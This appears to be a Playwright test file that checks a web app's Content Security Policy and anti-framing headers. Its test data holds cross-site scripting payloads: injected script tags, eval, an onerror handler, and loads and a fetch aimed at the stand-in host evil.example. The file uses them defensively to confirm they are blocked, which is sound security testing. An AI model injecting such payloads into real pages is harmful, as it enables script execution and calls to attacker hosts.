"""The browser is told what may be done with a page: all that the page does goes on, and nothing else."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, Route, expect

from tests.browser import graph
from tests.browser.conftest import LAPTOP, Visitors, open_all, settle, wait_until, walk
from tests.browser.serving import Served
from tests.browser.test_evidence import picture
from tests.browser.test_journeys import saved

WATCH = """window.broken = [];
document.addEventListener("securitypolicyviolation", (event) => {
  window.broken.push(`${event.effectiveDirective} ${event.blockedURI}`);
});"""
HARM = """async (markup) => {
  const place = document.body.appendChild(document.createElement("div"));
  place.innerHTML = markup;
  for (const text of ["window.evil = 1", "eval('window.evil = 1')"]) {
    const script = place.appendChild(document.createElement("script"));
    script.textContent = text;
  }
  for (const address of ["https://evil.example/x.js", "data:text/javascript,window.evil=1"]) {
    const script = place.appendChild(document.createElement("script"));
    script.src = address;
  }
  const base = document.head.appendChild(document.createElement("base"));
  base.href = "https://evil.example/";
  base.remove();
  await fetch("https://evil.example/?all").catch(() => undefined);
}"""
MARKUP = """<img src="https://evil.example/x.png"><img src="data:," onerror="window.evil = 1">
<iframe src="https://evil.example/"></iframe><object data="https://evil.example/x.swf"></object>
<style>@import url(https://evil.example/x.css);</style>"""
STOPPED = {
    "script-src-attr inline",
    "script-src-elem inline",
    "script-src-elem https://evil.example/x.js",
    "script-src-elem data",
    "img-src https://evil.example/x.png",
    "frame-src https://evil.example",
    "object-src https://evil.example",
    "style-src-elem https://evil.example/x.css",
    "connect-src https://evil.example/?all",
    "base-uri https://evil.example/",
}
ASKED = {f"https://evil.example/{path}" for path in ("x.png", "", "x.css", "x.js", "?all")}


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_nothing_that_the_pages_do_is_forbidden(
    visitors: Visitors, served: Served, finished_demo: str, tmp_path: Path, scheme: str
) -> None:
    page = visitors.context({"color_scheme": scheme}).new_page()
    page.add_init_script(WATCH)
    for name in walk(page, served.address(finished_demo)):
        if name in ("", "insight_doc"):
            open_all(page)
        assert page.evaluate("window.broken") == [], name
    page.goto(served.address(finished_demo))
    page.get_by_role("button", name="Citation 4: brochure.pdf, p. 1").click()
    picture(page, "Page 1 of brochure.pdf, with the passage marked")
    page.get_by_role("slider").first.press("Home")
    graph.wait_until(page, "nodes.length == 0")
    page.get_by_text("Export: JSON, report, graph").click()
    exported = saved(page, "HTML report", tmp_path / "report.html")
    page.get_by_role("link", name="Sessions").click()
    page.locator("input[type=file]").set_input_files(exported)
    expect(page.get_by_text("report.html")).to_be_visible()
    settle(page)
    assert page.evaluate("window.broken") == []


def guest(chromium: Browser) -> Page:
    """A visitor whose errors are looked for."""
    page = chromium.new_context(**LAPTOP).new_page()  # type: ignore[arg-type]
    page.add_init_script(WATCH)
    return page


def asked_of_evil(page: Page) -> list[str]:
    """What a page asks of the other host, which is told nothing: it grows as the page asks."""
    asked: list[str] = []

    def note(route: Route) -> None:
        asked.append(route.request.url)
        route.abort()

    page.route("https://evil.example/**", note)
    return asked


def test_what_gets_into_a_page_neither_runs_nor_asks_another_host(chromium: Browser, served: Served) -> None:
    page = guest(chromium)
    asked = asked_of_evil(page)
    page.goto(served.url)
    expect(page.get_by_label("Task")).to_be_visible()
    page.evaluate(HARM, MARKUP)
    wait_until(page, lambda: set(page.evaluate("window.broken")) >= STOPPED)
    assert set(page.evaluate("window.broken")) - {"base-uri "} == STOPPED  # told again as it is taken away
    assert page.evaluate("window.evil") is None
    assert asked == []
    page.context.close()


def test_the_same_would_be_harm_on_a_page_without_the_headers(chromium: Browser) -> None:
    page = guest(chromium)
    asked = asked_of_evil(page)
    page.set_content("<body></body>")
    page.evaluate(HARM, MARKUP)
    page.wait_for_function("window.evil")
    wait_until(page, lambda: set(asked) >= ASKED)
    page.context.close()


def test_no_other_page_may_frame_it(chromium: Browser, served: Served) -> None:
    page = guest(chromium)
    said: list[str] = []
    page.on("console", lambda message: said.append(message.text))
    page.set_content(f"<iframe src={json.dumps(served.url)}></iframe>")
    wait_until(page, lambda: any("frame-ancestors" in line for line in said))
    wait_until(page, lambda: page.frames[1].url.startswith("chrome-error:"))
    page.context.close()
